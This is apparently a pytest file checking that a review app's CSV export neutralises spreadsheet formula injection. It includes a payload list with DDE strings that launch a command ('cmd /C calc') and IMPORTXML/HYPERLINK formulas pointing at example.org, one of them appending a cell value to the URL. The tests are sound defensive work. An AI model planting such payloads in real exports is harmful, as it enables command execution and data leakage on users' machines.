"""Does a spreadsheet take any text of an export for a formula?"""

from __future__ import annotations

import csv
import io

import pytest

from reviewapp.inspection import cells

SIGNS = "=+-@＝＋－＠"
FORMULAS = [
    *(f"{sign}1+1" for sign in SIGNS),
    *(f" {sign}1+1" for sign in SIGNS),
    *(f"\t{sign}1+1" for sign in SIGNS),
    *(f"\r{sign}1+1" for sign in "=+-@"),
    *(f"\n{sign}1+1" for sign in "=+-@"),
    *(f"total;{sign}1+1" for sign in SIGNS),
    *(f"total; {sign}1+1" for sign in "=+-@"),
    *(f"two\r\nlines{mark}{sign}1" for mark in ("\n", "\r\n", "\t") for sign in "=@"),
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org","click")',
    '=IMPORTXML(CONCAT("https://example.org",A1),"//a")',
    "-2+3+cmd|' /C calc'!A0",
    "+491701234567",
    "-12.50",
    '";=1+1',
    "\ttab first",
    "\rreturn first",
    "\nline first",
    "=\0cmd",
]
HARMLESS = ["", "12.50", "Ayşe Demir", "a=b", "5 - 3", "me@example.org", "1,2", 'he said "no"', "2026-03-01", "/line/0"]


def test_there_are_at_least_sixty_payloads() -> None:
    assert len(set(FORMULAS)) >= 60


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_a_formula_whatever_separator_the_spreadsheet_uses(text: str) -> None:
    line = cells.line(["before", text, "after"])
    (row,) = csv.reader(io.StringIO(line, newline=""))
    assert len(row) == 3
    for separator in (",", ";", "\t", "\n", "\r"):
        for part in row[1].split(separator):
            assert part.strip()[:1] not in set(SIGNS) or part.strip() == "", (separator, part)


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_stays_as_it_is(text: str) -> None:
    (row,) = csv.reader(io.StringIO(cells.line(["before", text]), newline=""))
    assert row == ["before", text]


def test_without_the_guard_the_payloads_are_formulas() -> None:
    begun = [text for text in FORMULAS if any(part.strip()[:1] in set(SIGNS) for part in text.split(";"))]
    assert len(begun) >= 40


def test_a_line_ends_with_cr_lf_and_quotes_are_doubled() -> None:
    assert cells.line(['a "b"', "c,d", "e"]) == '"a ""b""","c,d",e\r\n'


def test_a_cell_is_not_longer_than_a_spreadsheet_takes() -> None:
    assert len(cells.guarded("x" * 100_000)) == cells.MAX_CELL
